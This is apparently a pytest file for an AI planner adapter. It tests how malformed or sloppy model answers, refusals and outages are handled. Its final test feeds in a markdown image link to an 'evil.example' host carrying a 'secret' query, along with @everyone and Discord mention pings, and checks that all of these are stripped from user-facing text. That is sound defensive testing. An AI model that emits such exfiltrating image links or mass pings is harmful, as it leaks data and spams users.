"""Bad answers: a plain plan with its cost, or kind words."""

import json
from collections.abc import Mapping
from typing import Any

import pytest

from adapters.openai.planner.planner import DEGRADED
from agent.errors import ModelUnavailable, RenderRefused
from tests.adapters.openai.planner.made_plans import planned, planner, slot
from tests.fakes.builders import plan_request
from tests.patience import PATIENCE_SECONDS


async def test_an_answer_that_cannot_be_read_becomes_a_plain_plan_with_its_cost() -> None:
    made, model = planner("noise", "more noise")

    plan, usage = await made.plan(plan_request("draw a fox"), timeout_seconds=PATIENCE_SECONDS)

    assert plan.context.value("subject") == "draw a fox"
    assert plan.notes == (DEGRADED,)
    assert usage.cost_usd == pytest.approx(model.cost_usd * 2)


@pytest.mark.parametrize(
    "answer",
    [
        {"slots": {"slot": "subject", "value": "a fox"}},
        {"slots": [{"slot": "subject", "value": 3}, {"slot": "nonsense"}, 5, None]},
        {
            "slots": [slot("subject", "a fox")],
            "gaps": None,
            "searches": "none",
            "panels": [1, 2],
            "checklist": [{}],
        },
        {
            "slots": [slot("subject", "a fox")],
            "statements": [{"kind": "x"}],
            "notes": [None, "@everyone look"],
            "language": None,
        },
    ],
)
async def test_sloppy_answers_are_read_as_far_as_they_go(answer: Mapping[str, Any]) -> None:
    made, _ = planner(
        json.dumps({"intent": "create", **answer}), json.dumps({"intent": "create", "slots": []})
    )

    plan, _ = await made.plan(plan_request("draw a fox"), timeout_seconds=PATIENCE_SECONDS)

    assert plan.intent == "create"
    assert DEGRADED not in plan.notes


async def test_a_refusal_of_the_model_is_told_kindly() -> None:
    made, _ = planner(RenderRefused("no"))

    plan, _ = await made.plan(plan_request("something vile"), timeout_seconds=PATIENCE_SECONDS)

    assert plan.intent == "refuse"
    assert "rather not" in plan.answer


async def test_a_model_that_is_away_is_said_to_be() -> None:
    made, _ = planner(ModelUnavailable("away"))

    with pytest.raises(ModelUnavailable):
        await made.plan(plan_request(), timeout_seconds=PATIENCE_SECONDS)


async def test_what_is_said_to_people_neither_pings_nor_links() -> None:
    plan = await planned(
        plan_request("hi"),
        intent="chat",
        answer="@everyone see ![x](https://evil.example/?q=secret) or [this](http://evil.example) www.evil.example <@123> <@&9> tg://user?id=1",
    )

    assert plan.answer == "everyone see x or this"
